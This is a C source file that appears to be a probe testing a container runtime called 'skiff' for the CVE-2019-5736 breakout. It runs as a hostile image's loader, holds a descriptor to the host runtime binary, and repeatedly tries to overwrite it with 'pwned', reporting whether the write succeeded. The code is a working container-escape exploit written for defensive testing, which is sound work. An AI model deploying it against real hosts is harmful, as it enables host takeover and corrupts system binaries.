/* CVE-2019-5736 probe. Installed in a hostile image as the dynamic loader
 * (/lib64/ld-linux-x86-64.so.2) of an image whose entrypoint is
 * /proc/self/exe, it runs in a process whose executable is the host's skiff
 * binary. It keeps an O_PATH descriptor of that binary on fd 3, then execs
 * a shell (so nothing in the job executes skiff any more) that keeps trying
 * to reopen the descriptor for writing, printing WROTE if it ever can.
 *
 * It runs as an ELF interpreter, where libc's start-up code does not work:
 * build it with -nostdlib -static; it makes raw x86-64 system calls. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(n), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return r;
}

static char *const args[] = {
    "/bin/sh", "-c",
    "echo STARTED; i=0; while [ $i -lt 200 ]; do "
    "if (echo pwned >/proc/self/fd/3) 2>/dev/null; then echo WROTE; exit 0; fi; "
    "i=$((i+1)); sleep 0.05; done; echo GAVE-UP",
    0,
};
static char *const envp[] = {"PATH=/bin:/usr/bin", 0};

void _start(void) {
    long fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    if (fd < 0) sys3(SYS_exit, 111, 0, 0);
    if (fd != 3) {
        sys3(SYS_dup2, fd, 3, 0);
        sys3(SYS_close, fd, 0, 0);
    }
    sys3(SYS_execve, (long)"/bin/sh", (long)args, (long)envp);
    sys3(SYS_exit, 113, 0, 0);
}
